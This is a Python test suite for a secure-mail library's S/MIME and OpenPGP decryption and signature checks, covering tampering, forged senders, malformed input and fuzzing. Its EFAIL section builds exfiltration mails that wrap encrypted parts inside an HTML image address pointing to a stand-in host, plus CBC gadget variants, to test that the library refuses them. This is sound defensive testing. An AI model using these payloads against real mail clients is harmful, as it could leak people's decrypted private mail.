"""Whatever arrives gets a verdict in words, and nothing of a changed mail is ever shown."""

import base64
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from secumail import entity
from services.crypto import layers
from services.crypto.forms import Form
from services.crypto.layers import Kind, Layer, Smime, layer_of
from services.crypto.opening import DEPTH, Keyring, Opened, open_mail
from services.crypto.openpgp import messages
from services.crypto.protecting import protect
from services.crypto.smime.enveloped import Cipher, envelop
from services.crypto.smime.signing import signed_data
from services.crypto.smime.verification import State
from tests.unit.crypto.correspondents import ALICE, BOB, ENCRYPTED, FORMS, LETTER, PASSWORD, SMIME, people

NUMBERS = b"the numbers are in"
FROM_ALICE = f"From: {ALICE}\r\nTo: {BOB}\r\nSubject: Hello\r\n".encode()
INSIDE = b"Content-Type: text/plain; charset=utf-8\r\n\r\nthe numbers are in\r\n"


def signed(content: bytes) -> bytes:
    """An inner layer: what Alice has signed, as other programs do it, without her header."""
    alice = people().alice
    signature = signed_data(content, alice.key, alice.certificate, alice.chain)
    return layers.smime_signed(b"", content, signature)


def encrypted(content: bytes, cipher: Cipher = Cipher.CBC) -> bytes:
    """An inner layer: what is encrypted to Bob."""
    kind = Smime.ENVELOPED if cipher is Cipher.CBC else Smime.AUTH_ENVELOPED
    return layers.pkcs7(b"", envelop(content, [people().bob.certificate], cipher), kind)


def read(mail: bytes) -> Opened:
    return people().read(mail)


def states(opened: Opened) -> list[tuple[Kind, str]]:
    return [(layer.kind, str(layer.state)) for layer in opened.layers]


# --- as others write it ----------------------------------------------------------------------------------------


def test_mail_without_protection_is_shown_as_it_is() -> None:
    opened = read(LETTER)
    assert opened.mail == LETTER
    assert opened.layers == ()
    assert opened.signature.state is State.UNSIGNED
    assert opened.remote_content


def test_a_triple_wrapped_mail_is_opened_layer_by_layer() -> None:
    opened = read(FROM_ALICE + signed(encrypted(signed(INSIDE))))
    assert states(opened) == [(Kind.SIGNED, "good"), (Kind.ENVELOPED, "opened"), (Kind.SIGNED, "good")]
    assert opened.mail is not None and NUMBERS in opened.mail
    assert opened.mail.startswith(FROM_ALICE)
    assert opened.remote_content


def test_an_opaque_signature_is_opened() -> None:
    alice = people().alice
    der = signed_data(INSIDE, alice.key, alice.certificate, alice.chain, around=True)
    opened = read(layers.pkcs7(FROM_ALICE, der, Smime.SIGNED))
    assert states(opened) == [(Kind.OPAQUE, "good")]
    assert opened.mail is not None and opened.mail.endswith(b"\r\nthe numbers are in\r\n")


def test_a_mail_with_odd_line_ends_is_signed_around_its_content() -> None:
    raw = LETTER + b"lone \n line feed"
    opened = read(people().send(raw, Form.SIGNED))
    assert states(opened) == [(Kind.OPAQUE, "good")]
    assert opened.mail is not None and opened.mail.endswith(b"lone \n line feed")


@pytest.mark.parametrize("form", [Form.SIGNED, Form.SMIME_GCM, Form.OPENPGP])
def test_a_mail_that_lies_in_a_file_of_unix_is_still_well_signed(form: Form) -> None:
    opened = read(people().send(LETTER, form).replace(b"\r\n", b"\n"))
    assert opened.signature.state is State.GOOD


def test_an_openpgp_signature_beside_the_mail_survives_a_file_of_unix() -> None:
    alice = people()
    mail = protect(LETTER, Form.SIGNED, alice.recipients, alice.alice_openpgp, alice.now)
    assert states(read(mail)) == [(Kind.PGP_SIGNED, "good")]
    assert read(mail.replace(b"\r\n", b"\n")).signature.state is State.GOOD


@pytest.mark.parametrize("form", SMIME)
@pytest.mark.parametrize(
    "head",
    [
        b"Content-Type: application/x-pkcs7-mime",
        b"Content-Type: application/pkcs7-mime; smime-type=signed-data",
        b'Content-Type: application/octet-stream; name="SMIME.P7M"',
        b'Content-Type: APPLICATION/Octet-Stream\r\nContent-Disposition: attachment; filename="smime.p7m"',
    ],
)
def test_what_a_body_is_is_read_from_the_body(form: Form, head: bytes) -> None:
    mail = people().send(LETTER, form)
    other = re.sub(rb"Content-Type: application/pkcs7-mime[^\r]*\r\n [^\r]*", head, mail)
    other = other.replace(b'Content-Disposition: attachment; filename="smime.p7m"\r\n\r\n', b"\r\n", 1)
    assert head in other and b"enveloped" not in other.lower().partition(b"\r\n\r\n")[0]
    assert read(other).mail == read(mail).mail


def test_a_key_nobody_knows_is_said_not_to_be_checked() -> None:
    alice = people()
    stranger = Keyring(openpgp=(alice.bob_openpgp.decryption,))
    opened = open_mail(alice.send(LETTER, Form.OPENPGP), stranger, alice.trust, alice.now)
    assert opened.mail is not None
    assert opened.signature.words.endswith("isn't known: the signature was not checked.")


def test_without_trust_nobody_vouches_for_a_signer() -> None:
    alice = people()
    opened = open_mail(alice.send(LETTER, Form.SIGNED), Keyring(), None, alice.now)
    assert opened.signature.state is State.UNTRUSTED


def test_a_signature_of_somebody_else_than_from_is_told() -> None:
    alice = people()
    for form in FORMS:
        raw = LETTER.replace(ALICE.encode(), b"mallory@elsewhere.example")
        assert read(alice.send(raw, form)).signature.state is State.NOT_THE_SENDER


def test_an_openpgp_signer_is_named_by_fingerprint() -> None:
    opened = read(people().send(LETTER, Form.OPENPGP))
    assert [layer.fingerprint is not None for layer in opened.layers] == [False, True]
    assert opened.signature.signer == ALICE


def test_another_from_inside_an_unsigned_mail_is_told() -> None:
    mail = people().send(LETTER, Form.SMIME_GCM, signed=False)
    opened = read(mail.replace(ALICE.encode(), b"mallory@elsewhere.example", 1))
    assert opened.forged_from
    assert opened.mail is not None and b"mallory@elsewhere.example" in opened.mail and ALICE.encode() not in opened.mail


# --- not for us ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("form", ENCRYPTED)
def test_without_the_key_nothing_is_shown_and_the_reason_told(form: Form) -> None:
    opened = open_mail(people().send(LETTER, form), Keyring(), people().trust, people().now)
    assert opened.mail is None
    assert opened.layers[-1].state in ("not-for-keys", "not-the-password")
    assert opened.signature.words == "Whether the mail is signed can't be told: it isn't opened."


@pytest.mark.parametrize("form", [Form.SYMMETRIC, Form.ZIP])
def test_another_password_opens_nothing(form: Form) -> None:
    ring = Keyring(passwords=("eight lanterns above the harbour",))
    opened = open_mail(people().send(LETTER, form), ring, people().trust, people().now)
    assert (opened.mail, opened.layers[-1].state) == (None, "not-the-password")


def test_the_right_one_among_several_passwords_is_found() -> None:
    for form in (Form.SYMMETRIC, Form.ZIP):
        ring = Keyring(passwords=("one that is wrong", PASSWORD))
        assert open_mail(people().send(LETTER, form), ring, people().trust, people().now).mail is not None


# --- changed on the way ------------------------------------------------------------------------------------------


def changed(mail: bytes, at: float) -> bytes:
    """The mail with one octet of its protected content changed, as far in as `at` says."""
    body = mail.index(b"\r\n\r\n") + 4
    found = re.compile(rb"\r\n((?:[A-Za-z0-9+/=]{64,76}\r\n)+[A-Za-z0-9+/=]*)").search(mail, body - 2)
    assert found is not None
    der = bytearray(base64.b64decode(found[1]))
    der[int(at * (len(der) - 1))] ^= 0x20
    return mail[: found.start(1)] + base64.encodebytes(bytes(der)).replace(b"\n", b"\r\n") + mail[found.end(1) :]


@pytest.mark.parametrize("form", [Form.SMIME_CBC, Form.SMIME_GCM, Form.OPENPGP, Form.ZIP])
@settings(max_examples=60, deadline=None)
@given(at=st.floats(0, 1))
def test_nothing_of_a_changed_mail_is_shown(form: Form, at: float) -> None:
    mail = people().send(LETTER, form)
    opened = read(changed(mail, at))
    assert all(layer.words for layer in opened.layers)
    # Some changes are none of the mail: in the text before its parts, in what a zip file says of itself.
    if opened.mail is not None and opened.mail != read(mail).mail:
        # Of AES-CBC a change can take the signature away. Then the mail says that it is unsigned, and loads nothing.
        is_flagged = opened.signature.state is State.UNSIGNED and not opened.remote_content
        assert NUMBERS not in opened.mail or (form is Form.SMIME_CBC and is_flagged)


def test_noise_where_a_header_should_be_is_no_mail() -> None:
    opened = read(FROM_ALICE + encrypted(b"Content-Type: text/pl\x07\x9f\x01ain\r\n\r\nthe numbers are in\r\n"))
    assert (opened.mail, opened.layers[-1].state) == (None, "damaged")


def test_a_changed_signed_mail_is_shown_as_changed() -> None:
    opened = read(people().send(LETTER, Form.SIGNED).replace(NUMBERS, b"the numbers are out"))
    assert states(opened) == [(Kind.SIGNED, "tampered")]
    assert opened.mail is not None


def test_changed_text_under_a_broken_signature_inside_is_not_shown() -> None:
    inside = signed(INSIDE).replace(NUMBERS, b"the numbers are out")
    for mail in (FROM_ALICE + encrypted(inside), FROM_ALICE + signed(encrypted(inside))):
        opened = read(mail)
        assert opened.mail is None
        assert opened.layers[-1].state == "tampered"


def test_what_was_changed_between_signature_and_encryption_is_not_shown() -> None:
    """Signed is what is encrypted: the signature alone shows the change."""
    once, again = encrypted(INSIDE), encrypted(INSIDE)
    opened = read(FROM_ALICE + signed(once).replace(once, again))
    assert states(opened)[-1] == (Kind.ENVELOPED, "tampered")
    assert opened.mail is None
    gcm = encrypted(INSIDE, Cipher.GCM)
    opened = read(FROM_ALICE + signed(once).replace(once, gcm))
    assert opened.mail is not None and opened.signature.state is State.TAMPERED


# --- EFAIL ------------------------------------------------------------------------------------------------------


def efail(part: bytes, kind: str = "mixed") -> bytes:
    """Encrypted content between the ends of an image's address: what is decrypted there would be sent away."""
    return FROM_ALICE + (
        f"Content-Type: multipart/{kind}; boundary=b\r\n\r\n"
        '--b\r\nContent-Type: text/html\r\n\r\n<img src="http://elsewhere.example/\r\n--b\r\n'
    ).encode() + part + b'\r\n--b\r\nContent-Type: text/html\r\n\r\n">\r\n--b--\r\n'  # fmt: skip


def armored() -> str:
    return messages.encrypt(INSIDE, (people().bob_openpgp.certificate,))


PARTS = {
    "S/MIME": lambda: encrypted(INSIDE),
    "S/MIME GCM": lambda: encrypted(INSIDE, Cipher.GCM),
    "S/MIME as octets": lambda: encrypted(INSIDE).replace(b"application/pkcs7-mime", b"application/octet-stream"),
    "S/MIME in shouted letters": lambda: encrypted(INSIDE).replace(b"pkcs7-mime", b"PKCS7-Mime"),
    "PGP/MIME": lambda: layers.pgp_encrypted(b"", armored().encode()),
    "inline OpenPGP": lambda: b"Content-Type: text/plain\r\n\r\n" + armored().encode(),
    "hidden in base64": lambda: (
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + base64.encodebytes(armored().encode())
    ),
}


@pytest.mark.parametrize("kind", ["mixed", "related", "alternative"])
@pytest.mark.parametrize("part", PARTS)
def test_encrypted_content_among_other_parts_is_named_and_not_opened(part: str, kind: str) -> None:
    mail = efail(PARTS[part](), kind)
    opened = read(mail)
    assert states(opened) == [(Kind.EMBEDDED, "not-opened")]
    assert opened.mail == mail
    assert NUMBERS not in opened.mail


def test_not_even_under_a_signature_or_inside_another_encrypted_mail() -> None:
    inner = b"Content-Type" + efail(encrypted(INSIDE)).partition(b"Content-Type")[2]
    for mail in (FROM_ALICE + signed(inner), FROM_ALICE + encrypted(signed(inner))):
        opened = read(mail)
        assert opened.layers[-1].kind is Kind.EMBEDDED
        assert opened.mail is None or NUMBERS not in opened.mail


def test_inline_openpgp_is_named_and_not_opened() -> None:
    for head in (b"Content-Type: text/plain\r\n", b""):
        opened = read(FROM_ALICE + head + b"\r\n" + armored().encode())
        assert states(opened) == [(Kind.INLINE, "not-opened")]
        assert opened.mail is not None and NUMBERS not in opened.mail


def test_gadgets_in_the_ciphertext_load_nothing() -> None:
    """CBC without a signature: whoever changed it could have put in what carries it away."""
    html = b'Content-Type: text/html\r\n\r\n<img src="http://elsewhere.example/x">\r\n'
    assert not read(FROM_ALICE + encrypted(html)).remote_content
    assert read(FROM_ALICE + encrypted(html, Cipher.GCM)).remote_content
    assert read(FROM_ALICE + encrypted(signed(html))).remote_content
    # A signature around it proves nothing of what is inside, and neither does encrypting it once more.
    assert not read(FROM_ALICE + signed(encrypted(html))).remote_content
    assert not read(FROM_ALICE + encrypted(encrypted(html), Cipher.GCM)).remote_content


def test_a_part_that_is_signed_does_not_vouch_for_the_rest() -> None:
    inside = (
        b"Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n" + signed(INSIDE)
        + b"\r\n--m\r\nContent-Type: text/html\r\n\r\n<img src=x>\r\n--m--\r\n"
    )  # fmt: skip
    opened = read(FROM_ALICE + encrypted(inside))
    assert opened.signature.state is State.UNSIGNED
    assert not opened.remote_content


# --- any bytes -----------------------------------------------------------------------------------------------------


def test_a_mail_wrapped_again_and_again_is_not_opened_for_ever() -> None:
    inside = INSIDE
    for _ in range(DEPTH):
        inside = encrypted(inside, Cipher.GCM)
    assert read(FROM_ALICE + inside).mail is not None
    opened = read(FROM_ALICE + encrypted(inside))
    assert (opened.mail, opened.layers[-1].state) == (None, "too-deep")


@pytest.mark.parametrize(
    ("head", "body", "state"),
    [
        (b"multipart/encrypted; boundary=b", b"--b\r\n\r\nx\r\n--b\r\n\r\ny\r\n--b--", "not-opened"),
        (b"application/pkcs7-mime", b"no DER", "not-opened"),
        (b"application/pkcs7-mime", b"0", "not-opened"),
        (b"application/pkcs7-mime", b"", "not-opened"),
        (b"application/pkcs7-mime", b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03", "unreadable-malformed"),
        (b"application/pkcs7-mime", b"\x30\x0b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02", "unreadable-signature"),
    ],
)
def test_a_mail_that_is_not_what_it_says_is_told_so(head: bytes, body: bytes, state: str) -> None:
    opened = read(FROM_ALICE + b"Content-Type: " + head + b"\r\n\r\n" + body)
    assert (opened.mail, opened.layers[-1].state) == (None, state)


@pytest.mark.parametrize(
    ("head", "body"),
    [
        (b"protocol=x", b"Hello"),
        (b"boundary=b", b"--b\r\n\r\nHello\r\n--b--"),
        (b"boundary=b", b"--b\r\n\r\nHello\r\n--b\r\n\r\ny\r\n--b--"),
    ],
)
def test_a_signed_mail_without_a_signature_is_shown_and_told(head: bytes, body: bytes) -> None:
    mail = FROM_ALICE + b"Content-Type: multipart/signed; " + head + b"\r\n\r\n" + body
    opened = read(mail)
    assert (opened.mail, opened.signature.state) == (mail, State.UNREADABLE)


def test_an_openpgp_signature_that_is_none_is_told() -> None:
    alice = people()
    mail = protect(LETTER, Form.SIGNED, alice.recipients, alice.alice_openpgp, alice.now)
    opened = read(re.sub(rb"-----BEGIN PGP SIGNATURE[^$]*END PGP SIGNATURE-----", b"nothing", mail))
    assert states(opened) == [(Kind.PGP_SIGNED, "unreadable")]
    assert opened.mail is not None


def test_what_a_mailing_list_adds_is_not_shown_as_signed() -> None:
    mail = people().send(LETTER, Form.SIGNED)
    boundary = mail.rpartition(b"\r\n--")[2][:-4]
    footer = b"\r\n--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nTo unsubscribe\r\n"
    end = mail.rindex(b"\r\n--" + boundary)
    opened = read(mail[:end] + footer + mail[end:])
    assert opened.signature.state is State.GOOD
    assert opened.mail is not None and b"unsubscribe" not in opened.mail


def test_compressed_content_is_named() -> None:
    compressed = b"\x30\x0d\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09"
    opened = read(FROM_ALICE + b"Content-Type: application/pkcs7-mime\r\n\r\n" + compressed)
    assert states(opened) == [(Kind.COMPRESSED, "not-opened")]


def test_a_zip_file_of_somebody_elses_is_an_attachment_like_any_other() -> None:
    attachment = layers.carrier(FROM_ALICE, "See.", "holiday.zip", "application/zip", b"PK\x03\x04\x14\0\0\0\0\0")
    assert read(attachment).layers == ()


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_any_bytes_get_an_answer(raw: bytes) -> None:
    assert read(raw).signature.words
    assert read(FROM_ALICE + b"Content-Type: application/pkcs7-mime\r\n\r\n" + raw).signature.words


@pytest.mark.parametrize("form", FORMS)
@settings(max_examples=40, deadline=None)
@given(cut=st.floats(0, 1), insert=st.binary(max_size=20))
def test_a_cut_or_mangled_mail_gets_an_answer(form: Form, cut: float, insert: bytes) -> None:
    mail = people().send(LETTER, form)
    at = int(cut * len(mail))
    for mangled in (mail[:at], mail[:at] + insert + mail[at:], mail[:at] + mail[at + 7 :]):
        opened = read(mangled)
        assert opened.signature.words
        assert all(layer.words for layer in opened.layers)


@given(st.binary(max_size=200))
def test_any_entity_has_a_layer(raw: bytes) -> None:
    assert isinstance(layer_of(entity.read(raw)), Layer)
